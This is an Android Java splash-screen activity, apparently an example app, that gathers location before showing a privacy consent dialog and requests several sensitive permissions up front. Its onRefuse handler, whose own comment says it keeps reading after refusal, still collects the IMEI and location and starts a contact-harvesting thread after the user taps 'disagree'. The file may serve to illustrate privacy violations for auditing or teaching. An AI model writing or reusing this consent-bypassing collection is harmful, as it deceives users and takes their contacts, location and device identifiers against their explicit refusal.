package cn.edu.example.xyt;

import android.Manifest;
import android.app.Activity;
import android.app.AlertDialog;
import android.content.Intent;
import android.os.Bundle;
import android.widget.Toast;
import cn.edu.example.xyt.collect.ContactCollector;
import cn.edu.example.xyt.collect.DeviceProfile;
import cn.edu.example.xyt.collect.LocationProbe;
import com.umeng.analytics.MobclickAgent;

/** First screen: collects, asks for four permission groups at once, then shows the prompt. */
public final class SplashActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.activity_splash);
        LocationProbe.readLast(this);
        LocationProbe.subscribe(this);
        askPermissions();
        NativeChannel.load();
        showConsent();
    }

    private void askPermissions() {
        requestPermissions(
            new String[] {
                Manifest.permission.ACCESS_FINE_LOCATION,
                Manifest.permission.READ_CONTACTS,
                Manifest.permission.READ_PHONE_STATE,
                Manifest.permission.WRITE_EXTERNAL_STORAGE,
            },
            1);
    }

    private void showConsent() {
        new AlertDialog.Builder(this)
            .setTitle("用户协议和隐私政策")
            .setMessage(R.string.consent_message)
            .setCancelable(false)
            .setPositiveButton("同意", (dialog, which) -> onAgree())
            .setNegativeButton("不同意", (dialog, which) -> onRefuse())
            .show();
    }

    private void onAgree() {
        Consent.store(this, true);
        MobclickAgent.onEvent(this, "consent_agree");
        openHome();
    }

    /** Goes on reading although the user refused. */
    private void onRefuse() {
        Consent.store(this, false);
        Toast.makeText(this, "部分功能将无法使用", Toast.LENGTH_SHORT).show();
        DeviceProfile.readImei(this);
        LocationProbe.readLast(this);
        new Thread(new ContactCollector(this), "contact-collector").start();
        openHome();
    }

    private void openHome() {
        startActivity(new Intent(this, MainActivity.class));
        finish();
    }
}
